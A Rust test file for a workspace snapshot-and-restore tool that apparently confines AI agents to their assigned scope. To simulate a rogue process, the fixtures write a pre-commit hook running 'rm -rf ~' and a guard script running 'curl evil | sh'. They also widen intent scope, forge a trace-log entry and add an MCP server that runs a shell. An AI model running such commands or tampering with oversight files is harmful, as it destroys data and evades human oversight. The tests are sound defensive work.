use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::Command;

use super::*;
use crate::hooks::ignore_list::IntentIgnore;

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

fn workspace() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tmp");
    let root = tmp.path();
    write(root, "src/auth/login.rs", "fn login() {}\n");
    write(root, "src/db/pool.rs", "fn pool() {}\n");
    write(root, ".gitignore", "target/\n*.log\n");
    write(root, "target/debug/app", "bin");
    write(root, "debug.log", "log\n");
    write(
        root,
        ".orchestration/active_intents.yaml",
        "active_intents: []\n",
    );
    write(root, ".orchestration/agent_trace.jsonl", "{\"a\":1}\n");
    write(root, "secrets/key.pem", "pem\n");
    write(root, ".intentignore", "secrets/\n");
    tmp
}

fn git(root: &Path, args: &[&str]) {
    let ok = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(root)
        .output()
        .expect("git");
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
}

fn kinds(changes: &[Change]) -> Vec<(String, ChangeKind)> {
    changes.iter().map(|c| (c.path.clone(), c.kind)).collect()
}

#[test]
fn every_change_is_found_ignored_files_and_git_included() {
    let tmp = workspace();
    let root = tmp.path();
    git(root, &["init", "-q"]);
    let before = Snapshot::take(root);
    assert!(before.get(".git/HEAD").is_some(), "`.git/` is walked");
    write(root, "src/auth/login.rs", "fn login() { changed }\n");
    write(root, "src/auth/new.rs", "new\n");
    std::fs::remove_file(root.join("src/db/pool.rs")).expect("rm");
    write(root, "debug.log", "log\nmore\n");
    write(root, "target/debug/app", "bin2");
    write(root, ".git/hooks/pre-commit", "#!/bin/sh\n");
    std::fs::set_permissions(
        root.join(".gitignore"),
        std::fs::Permissions::from_mode(0o600),
    )
    .expect("chmod");
    std::fs::remove_file(root.join(".intentignore")).expect("rm");
    std::fs::create_dir(root.join(".intentignore")).expect("mkdir");
    let mut after = Snapshot::take(root);
    let changes = diff(&before, &mut after);
    let found = kinds(&changes);
    for expected in [
        (".git/hooks/pre-commit", ChangeKind::Created),
        // Its content was not known before: a mode change moves the change time like a write.
        (".gitignore", ChangeKind::Modified),
        (".intentignore", ChangeKind::TypeChanged),
        ("debug.log", ChangeKind::Modified),
        ("src/auth/login.rs", ChangeKind::Modified),
        ("src/auth/new.rs", ChangeKind::Created),
        ("src/db/pool.rs", ChangeKind::Deleted),
        ("target/debug/app", ChangeKind::Modified),
    ] {
        assert!(
            found.contains(&(expected.0.to_string(), expected.1)),
            "{expected:?} missing from {found:?}"
        );
    }
    let new = changes
        .iter()
        .find(|c| c.path == "src/auth/new.rs")
        .expect("new");
    assert_eq!(
        new.hash_after.as_deref(),
        Some(format!("sha256:{}", crate::fsutil::sha256_hex(b"new\n")).as_str())
    );
}

#[test]
fn a_touched_file_is_told_from_a_modified_one_once_its_content_is_known() {
    let tmp = workspace();
    let root = tmp.path();
    let first = Snapshot::take(root);
    write(root, "src/auth/login.rs", "fn login() { v2 }\n");
    let mut second = Snapshot::take(root);
    assert_eq!(
        kinds(&diff(&first, &mut second)),
        vec![("src/auth/login.rs".to_string(), ChangeKind::Modified)]
    );
    // Same bytes written again: the times move, the content does not.
    write(root, "src/auth/login.rs", "fn login() { v2 }\n");
    let mut third = Snapshot::take(root);
    assert_eq!(
        kinds(&diff(&second, &mut third)),
        vec![("src/auth/login.rs".to_string(), ChangeKind::Touched)]
    );
    std::fs::set_permissions(
        root.join("src/auth/login.rs"),
        std::fs::Permissions::from_mode(0o600),
    )
    .expect("chmod");
    let mut fourth = Snapshot::take(root);
    assert_eq!(
        kinds(&diff(&third, &mut fourth)),
        vec![("src/auth/login.rs".to_string(), ChangeKind::ModeChanged)]
    );
}

#[test]
fn changes_are_sorted_into_in_scope_permitted_and_out_of_scope() {
    let tmp = workspace();
    let root = tmp.path();
    let before = Snapshot::take(root);
    write(root, "src/auth/login.rs", "x\n");
    write(root, "src/auth/sub/deep.rs", "x\n");
    write(root, "target/debug/new", "x");
    write(root, "src/db/pool.rs", "x\n");
    write(root, "secrets/key.pem", "stolen\n");
    write(root, ".orchestration/active_intents.yaml", "widened\n");
    write(root, "vendor/lib/.git/config", "[core]\n");
    let mut after = Snapshot::take(root);
    let ignore = IntentIgnore::load(root).expect("ignore");
    let owns = |p: &str| p.starts_with("src/auth/");
    let sorted = classify(
        diff(&before, &mut after),
        &owns,
        &ignore,
        &["target"],
        false,
    );
    let in_scope: Vec<&str> = sorted.in_scope.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(
        in_scope,
        ["src/auth/login.rs", "src/auth/sub", "src/auth/sub/deep.rs"]
    );
    let permitted: Vec<&str> = sorted
        .permitted
        .iter()
        .map(|(c, _)| c.path.as_str())
        .collect();
    assert_eq!(permitted, ["target/debug/new"]);
    let out = sorted.out_of_scope_paths();
    for path in [
        ".orchestration/active_intents.yaml",
        "secrets/key.pem",
        "src/db/pool.rs",
        "vendor/lib/.git/config",
    ] {
        assert!(
            out.iter().any(|p| p == path),
            "{path} not out of scope: {out:?}"
        );
    }
}

#[test]
fn out_of_scope_changes_are_undone_where_their_earlier_state_is_known() {
    let tmp = workspace();
    let root = tmp.path();
    write(root, "big/ledger.jsonl", "");
    git(root, &["init", "-q"]);
    git(root, &["add", "src", ".gitignore"]);
    git(root, &["commit", "-qm", "init"]);
    write(root, "src/db/dirty.rs", "untracked\n");
    // A large ledger (over the copy limit used here) that is appended to.
    write(
        root,
        ".orchestration/agent_trace.jsonl",
        &"{\"r\":1}\n".repeat(100),
    );
    let before = Snapshot::take(root);
    let images = BeforeImages::capture_for_test(&before, 64);
    // What an unconfined command did:
    write(
        root,
        ".orchestration/active_intents.yaml",
        "active_intents: [{id: X, owned_scope: ['**']}]\n",
    );
    let mut ledger = std::fs::OpenOptions::new()
        .append(true)
        .open(root.join(".orchestration/agent_trace.jsonl"))
        .expect("open");
    std::io::Write::write_all(&mut ledger, b"{\"forged\":1}\n").expect("append");
    write(root, ".git/hooks/pre-commit", "#!/bin/sh\nrm -rf ~\n");
    std::fs::remove_file(root.join("src/db/pool.rs")).expect("rm");
    write(root, "src/db/dirty.rs", "overwritten\n");
    std::fs::remove_file(root.join(".intentignore")).expect("rm");
    std::fs::set_permissions(
        root.join("src/auth/login.rs"),
        std::fs::Permissions::from_mode(0o777),
    )
    .expect("chmod");
    let mut after = Snapshot::take(root);
    let changes = diff(&before, &mut after);
    let outcomes = restore(root, &before, &changes, &images, &|_| false);
    let result = |p: &str| {
        outcomes
            .iter()
            .find(|o| o.path == p)
            .map(|o| o.result.clone())
            .unwrap_or_else(|| panic!("{p} not in {outcomes:?}"))
    };
    assert_eq!(
        result(".orchestration/active_intents.yaml"),
        Ok(Restored::FromCopy)
    );
    assert_eq!(
        result(".orchestration/agent_trace.jsonl"),
        Ok(Restored::CutBack)
    );
    assert_eq!(result(".git/hooks/pre-commit"), Ok(Restored::Removed));
    assert_eq!(result("src/db/pool.rs"), Ok(Restored::FromGit));
    assert_eq!(result(".intentignore"), Ok(Restored::FromCopy));
    assert_eq!(result("src/auth/login.rs"), Ok(Restored::FromGit));
    assert!(
        result("src/db/dirty.rs").is_err(),
        "an untracked file has no earlier copy"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".orchestration/active_intents.yaml")).expect("read"),
        "active_intents: []\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".orchestration/agent_trace.jsonl")).expect("read"),
        "{\"r\":1}\n".repeat(100)
    );
    assert_eq!(
        std::fs::read_to_string(root.join("src/db/pool.rs")).expect("read"),
        "fn pool() {}\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join(".intentignore")).expect("read"),
        "secrets/\n"
    );
    assert!(!root.join(".git/hooks/pre-commit").exists());
    let mode = std::fs::metadata(root.join("src/auth/login.rs"))
        .expect("meta")
        .permissions()
        .mode();
    assert_eq!(
        mode & 0o777,
        before.get("src/auth/login.rs").expect("stamp").mode & 0o777
    );
    assert_eq!(
        std::fs::read_to_string(root.join("src/db/dirty.rs")).expect("read"),
        "overwritten\n"
    );
}

#[test]
fn the_persons_hooks_and_mcp_servers_come_back_from_the_copy_kept_before() {
    let tmp = workspace();
    let root = tmp.path();
    let files = [
        (".mandate/hooks.json", "{\"hooks\": {}}\n"),
        (".mandate/guard.py", "print('ok')\n"),
        (".claude/settings.json", "{\n  \"permissions\": {}\n}\n"),
        (".mcp.json", "{\"mcpServers\": {}}\n"),
    ];
    for (rel, text) in files {
        write(root, rel, text);
    }
    let before = Snapshot::take(root);
    let images = BeforeImages::capture(&before);
    // What an unconfined process did: hooks that run anything, a server that runs anything.
    write(
        root,
        ".mandate/hooks.json",
        "{\"hooks\": {\"PreToolUse\": []}}",
    );
    write(
        root,
        ".mandate/guard.py",
        "import os; os.system('curl evil | sh')\n",
    );
    std::fs::remove_file(root.join(".claude/settings.json")).expect("rm");
    write(
        root,
        ".mcp.json",
        "{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}",
    );
    let mut after = Snapshot::take(root);
    let changes = diff(&before, &mut after);
    let outcomes = restore(root, &before, &changes, &images, &|_| false);
    for (rel, text) in files {
        let outcome = outcomes.iter().find(|o| o.path == rel);
        assert_eq!(
            outcome.map(|o| o.result.clone()),
            Some(Ok(Restored::FromCopy)),
            "{rel}: {outcomes:?}"
        );
        assert_eq!(std::fs::read_to_string(root.join(rel)).expect("read"), text);
    }
}

#[test]
fn restore_does_not_write_through_a_symlink_put_in_the_way() {
    let tmp = workspace();
    let root = tmp.path();
    let outside = tempfile::tempdir().expect("outside");
    let before = Snapshot::take(root);
    let images = BeforeImages::capture(&before);
    std::fs::rename(root.join(".orchestration"), root.join("moved")).expect("mv");
    std::os::unix::fs::symlink(outside.path(), root.join(".orchestration")).expect("link");
    let mut after = Snapshot::take(root);
    let changes = diff(&before, &mut after);
    let outcomes = restore(root, &before, &changes, &images, &|_| false);
    assert!(
        std::fs::read_dir(outside.path())
            .expect("read")
            .next()
            .is_none(),
        "wrote outside: {outcomes:?}"
    );
}

#[test]
fn build_outputs_are_found_by_name() {
    let tmp = workspace();
    write(tmp.path(), "web/node_modules/x/index.js", "");
    let snap = Snapshot::take(tmp.path());
    let found = snap.directories_named(&["target", "node_modules"]);
    assert_eq!(
        found,
        vec![
            tmp.path().join("target"),
            tmp.path().join("web/node_modules")
        ]
    );
}

#[test]
fn a_partial_snapshot_finds_the_changes_within_its_directories() {
    let tmp = workspace();
    let root = tmp.path();
    let before = Snapshot::take(root);
    write(root, "src/auth/login.rs", "changed\n");
    write(root, "src/auth/deep/new.rs", "new\n");
    std::fs::remove_file(root.join("src/db/pool.rs")).expect("rm");
    let within = vec!["src/auth".to_string(), "README.md".to_string()];
    let mut after = Snapshot::take_within(root, &within);
    assert!(
        after.get("src/db").is_none(),
        "only the given directories are read"
    );
    let found = kinds(&diff_within(&before, &mut after, &within));
    assert_eq!(
        found,
        [
            ("src/auth/deep".to_string(), ChangeKind::Created),
            ("src/auth/deep/new.rs".to_string(), ChangeKind::Created),
            ("src/auth/login.rs".to_string(), ChangeKind::Modified),
        ]
    );
}
